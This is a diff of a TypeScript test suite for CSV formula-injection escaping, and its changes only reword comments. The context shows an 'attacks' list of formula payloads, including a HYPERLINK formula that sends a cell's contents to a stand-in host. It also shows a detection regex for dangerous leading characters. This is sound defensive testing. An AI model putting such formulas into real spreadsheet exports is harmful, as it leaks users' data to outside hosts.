@@ -11,12 +11,12 @@ import { anyText, fields, fileOf } from './fixture'
 const cellsOf = (text: string) =>
   Papa.parse<string[]>(text.replace(/^\uFEFF/, ''), { skipEmptyLines: 'greedy' }).data
 
-/** With these, also in other widths, a formula begins. */
+/** A formula begins with one of these, also in other widths. */
 const signs = [...'=+-@＝＋－＠﹦﹢﹣﹫']
-/** What a reader passes over before one. */
+/** What a reader may skip before one. */
 const before = ['', ...'\t\r\n\0 \u00A0\u3000\u200B\uFEFF\u202E\u0007', "'"]
 
-/** What a spreadsheet runs, asks another host with, or hands to the machine. */
+/** Things that a spreadsheet runs, requests from another host, or passes to the machine. */
 const attacks = [
   '=1+1',
   '=HYPERLINK("https://host.invalid/?x="&A1,"查看")',
@@ -38,7 +38,7 @@ const attacks = [
   "'\t=1",
 ]
 
-/** What only looks a little like it, and must be left as it is. */
+/** Texts that only look similar, and must stay as they are. */
 const harmless = [
   '',
   'a\t',
@@ -57,7 +57,7 @@ const harmless = [
 
 const codes = ['1.5E-3', '123456789012', '8800000000000000123', '00123', '007', '12E5']
 
-/** What a spreadsheet would make something else of. */
+/** Texts that a spreadsheet would change. */
 const dangerous = /^[\s\p{Cc}\p{Cf}]*[=+\-@＝＋－＠]|^\0|^[\t\r\n]\s*\S|^\d{12,}$|^0\d+$/u
 
 describe('a text in a CSV file', () => {
